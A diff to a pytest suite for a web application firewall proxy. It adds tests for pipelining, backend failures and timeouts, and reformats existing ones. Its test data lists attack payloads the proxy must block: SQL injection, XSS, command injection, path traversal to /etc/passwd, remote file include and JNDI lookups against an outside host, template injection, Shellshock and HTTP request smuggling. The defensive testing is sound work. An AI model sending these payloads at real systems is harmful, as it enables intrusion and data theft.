@@ -5,6 +5,7 @@ from __future__ import annotations
 import hashlib
 import http.client
 import json
+import re
 import socket
 import time
 from collections.abc import Callable
@@ -14,24 +15,38 @@ from urllib.parse import quote
 import pytest
 from websockets.sync.client import connect as ws_connect
 
-from garrison.policy.cnaf import ATTACK_CLASSES, CnafControls, CnafException, RateLimit
+from garrison.policy.cnaf import ATTACK_CLASSES, CnafControls, CnafEffect, CnafException, RateLimit
 from tests.cnaf.conftest import ProxyHandle
 
-ALL_PREVENT = dict.fromkeys(ATTACK_CLASSES, "prevent")
-ALL_ALERT = dict.fromkeys(ATTACK_CLASSES, "alert")
+ALL_PREVENT: dict[str, CnafEffect] = dict.fromkeys(ATTACK_CLASSES, "prevent")
+ALL_ALERT: dict[str, CnafEffect] = dict.fromkeys(ATTACK_CLASSES, "alert")
 
 # (class, method, target, extra headers, body, content-type)
 ATTACKS: list[tuple[str, str, str, dict[str, str], bytes, str]] = [
     ("sqli", "GET", "/items?id=" + quote("1' OR '1'='1"), {}, b"", ""),
     ("sqli", "POST", "/login", {}, b"user=admin%27--&pass=x", "application/x-www-form-urlencoded"),
     ("xss", "GET", "/search?q=" + quote(quote("<script>alert(1)</script>")), {}, b"", ""),
-    ("xss", "POST", "/comment", {}, json.dumps({"c": "<img src=x onerror=alert(1)>"}).encode(), "application/json"),
+    (
+        "xss",
+        "POST",
+        "/comment",
+        {},
+        json.dumps({"c": "<img src=x onerror=alert(1)>"}).encode(),
+        "application/json",
+    ),
     ("cmdi", "GET", "/ping?host=" + quote("127.0.0.1; cat /etc/hosts"), {}, b"", ""),
     ("lfi", "GET", "/view?file=" + quote("....//....//etc/passwd"), {}, b"", ""),
     ("lfi", "GET", "/static/%2e%2e/%2e%2e/etc/passwd", {}, b"", ""),
     ("rfi", "GET", "/index.php?page=" + quote("http://198.51.100.7/shell.txt?"), {}, b"", ""),
     ("code_injection", "GET", "/", {"X-Api-Version": "${jndi:ldap://198.51.100.7/a}"}, b"", ""),
-    ("code_injection", "GET", "/hello?name=" + quote("{{config.__class__.__init__.__globals__}}"), {}, b"", ""),
+    (
+        "code_injection",
+        "GET",
+        "/hello?name=" + quote("{{config.__class__.__init__.__globals__}}"),
+        {},
+        b"",
+        "",
+    ),
     ("shellshock", "GET", "/cgi-bin/status", {"User-Agent": "() { :; }; /bin/bash -c 'id'"}, b"", ""),
     ("attack_tools", "GET", "/", {"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}, b"", ""),
 ]
@@ -90,7 +105,12 @@ def test_keep_alive_benign_requests_reach_the_app(make_proxy: Callable[..., Prox
 
 TRICKY_BENIGN: list[tuple[str, str, bytes, str]] = [
     ("GET", "/people?name=" + quote("O'Brien") + "&city=" + quote("Coeur d'Alene"), b"", ""),
-    ("POST", "/signup", b"plan=" + quote("select a plan").encode() + b"&note=Tom+%26+Jerry", "application/x-www-form-urlencoded"),
+    (
+        "POST",
+        "/signup",
+        b"plan=" + quote("select a plan").encode() + b"&note=Tom+%26+Jerry",
+        "application/x-www-form-urlencoded",
+    ),
     (
         "POST",
         "/docs/snippets",
@@ -108,7 +128,12 @@ TRICKY_BENIGN: list[tuple[str, str, bytes, str]] = [
     ),
     ("GET", "/search?q=" + quote('"rock and roll" or "jazz"') + "&sizes=4+or+5", b"", ""),
     ("GET", "/go?next=" + quote("https://example.com/welcome?ref=mail"), b"", ""),
-    ("POST", "/profile", b"bio=I+love+cats%3B+dogs+are+fine+too.+Email+me%40example.com", "application/x-www-form-urlencoded"),
+    (
+        "POST",
+        "/profile",
+        b"bio=I+love+cats%3B+dogs+are+fine+too.+Email+me%40example.com",
+        "application/x-www-form-urlencoded",
+    ),
 ]
 
 
@@ -128,7 +153,9 @@ def test_chunked_upload_and_chunked_response(make_proxy: Callable[..., ProxyHand
     p = make_proxy()
     parts = [b"alpha " * 1000, b"beta " * 3000, b"gamma"]
     conn = http.client.HTTPConnection("127.0.0.1", p.port, timeout=10)
-    conn.request("POST", "/upload", body=iter(parts), headers={"Content-Type": "text/plain"}, encode_chunked=True)
+    conn.request(
+        "POST", "/upload", body=iter(parts), headers={"Content-Type": "text/plain"}, encode_chunked=True
+    )
     r = conn.getresponse()
     doc = json.loads(r.read())
     assert r.status == 200
@@ -239,10 +266,22 @@ def test_disabled_class_is_not_reported(make_proxy: Callable[..., ProxyHandle]) 
 
 
 SMUGGLING = [
-    (b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG", 400, "Content-Length and Transfer-Encoding"),
-    (b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 3\r\nContent-Length: 4\r\n\r\nabcd", 400, "duplicate Content-Length"),
+    (
+        b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG",
+        400,
+        "Content-Length and Transfer-Encoding",
+    ),
+    (
+        b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 3\r\nContent-Length: 4\r\n\r\nabcd",
+        400,
+        "duplicate Content-Length",
+    ),
     (b"POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nabc\r\n0\r\n\r\n", 400, "chunk"),
-    (b"POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n", 400, "Transfer-Encoding"),
+    (
+        b"POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
+        400,
+        "Transfer-Encoding",
+    ),
     (b"GET / HTTP/1.1\r\nHost: x\r\nX-Pad: " + b"a" * 20000 + b"\r\n\r\n", 431, "too large"),
 ]
 
@@ -260,7 +299,9 @@ def test_smuggling_and_malformed_requests_are_refused(
 
 
 def test_ban_uses_first_trusted_forwarded_hop(make_proxy: Callable[..., ProxyHandle]) -> None:
-    p = make_proxy(CnafControls(effects={**ALL_PREVENT, "sqli": "ban"}, trust_x_forwarded_for=True, ban_duration_s=1))
+    p = make_proxy(
+        CnafControls(effects={**ALL_PREVENT, "sqli": "ban"}, trust_x_forwarded_for=True, ban_duration_s=1)
+    )
     attacker = {"X-Forwarded-For": "203.0.113.7, 10.0.0.1"}
     other = {"X-Forwarded-For": "198.51.100.20, 10.0.0.1"}
     status, _, _ = request(p.port, "GET", "/items?id=" + quote("1 UNION SELECT 1,2--"), attacker)
@@ -284,7 +325,9 @@ def test_untrusted_forwarded_header_is_ignored_for_bans(make_proxy: Callable[...
 
 def test_rate_limit_returns_429_per_client(make_proxy: Callable[..., ProxyHandle]) -> None:
     p = make_proxy(
-        CnafControls(effects=ALL_PREVENT, trust_x_forwarded_for=True, rate_limit=RateLimit(burst=5, average=1))
+        CnafControls(
+            effects=ALL_PREVENT, trust_x_forwarded_for=True, rate_limit=RateLimit(burst=5, average=1)
+        )
     )
     a = {"X-Forwarded-For": "192.0.2.1"}
     statuses = [request(p.port, "GET", f"/r{i}", a)[0] for i in range(8)]
@@ -316,3 +359,70 @@ def test_policy_change_applies_to_the_next_request(make_proxy: Callable[..., Pro
     assert request(p.port, "GET", target)[0] == 200
     p.set(CnafControls(effects=ALL_PREVENT))
     assert request(p.port, "GET", target)[0] == 403
+
+
+def test_pipelined_requests_are_answered_in_order(make_proxy: Callable[..., ProxyHandle]) -> None:
+    p = make_proxy()
+    benign = b"GET /first HTTP/1.1\r\nHost: x\r\n\r\n"
+    attack = b"GET /second?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1\r\nHost: x\r\n\r\n"
+    out = raw(p.port, benign + benign.replace(b"first", b"again") + attack + benign)
+    statuses = re.findall(rb"HTTP/1\.1 (\d{3}) ", out)
+    assert statuses == [b"200", b"200", b"403"], out[:500]
+    assert b'"/first"' in out and b'"/again"' in out
+
+
+def test_unreachable_app_gives_502(make_proxy: Callable[..., ProxyHandle], backend: Any) -> None:
+    import asyncio
+
+    from garrison.cnaf.proxy import serve
+
+    with socket.socket() as s:  # a port with nothing listening
+        s.bind(("127.0.0.1", 0))
+        dead = s.getsockname()[1]
+
+    async def run() -> bytes:
+        proxy = await serve("127.0.0.1", 0, "127.0.0.1", dead, lambda: CnafControls(), lambda e: None)
+        try:
+            reader, writer = await asyncio.open_connection("127.0.0.1", proxy.port)
+            writer.write(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
+            data = await asyncio.wait_for(reader.read(), 10)
+            writer.close()
+            return data
+        finally:
+            proxy.close()
+            await proxy.wait_closed()
+
+    assert asyncio.run(run()).startswith(b"HTTP/1.1 502")
+
+
+def test_blocked_large_upload_is_answered_not_reset(make_proxy: Callable[..., ProxyHandle]) -> None:
+    """A request blocked after the inspected prefix still gets its 403 while the client keeps sending."""
+    p = make_proxy(CnafControls(effects=ALL_PREVENT, max_body_inspect_bytes=4096))
+    body = b"q=%3Cscript%3Ealert(1)%3C%2Fscript%3E&pad=" + b"x" * (4 << 20)
+    status, _, _ = request(p.port, "POST", "/f", {"Content-Type": "application/x-www-form-urlencoded"}, body)
+    assert status == 403
+
+
+def test_slow_request_head_gets_408(make_proxy: Callable[..., ProxyHandle]) -> None:
+    import asyncio
+
+    from garrison.cnaf.proxy import HEAD_TIMEOUT_S
+
+    p = make_proxy()
+
+    async def sweep_in_the_future() -> int:
+        assert p.proxy is not None
+        conns = list(p.proxy.connections)
+        for c in conns:
+            c.sweep(c.loop.time() + HEAD_TIMEOUT_S + 1)  # as the periodic sweeper will, later
+        return len(conns)
+
+    with socket.create_connection(("127.0.0.1", p.port), timeout=10) as s:
+        s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n")  # the head never ends
+        for _ in range(100):
+            assert p.loop is not None
+            if asyncio.run_coroutine_threadsafe(sweep_in_the_future(), p.loop).result(5):
+                break
+            time.sleep(0.02)
+        data = s.recv(1000)
+    assert data.startswith(b"HTTP/1.1 408")
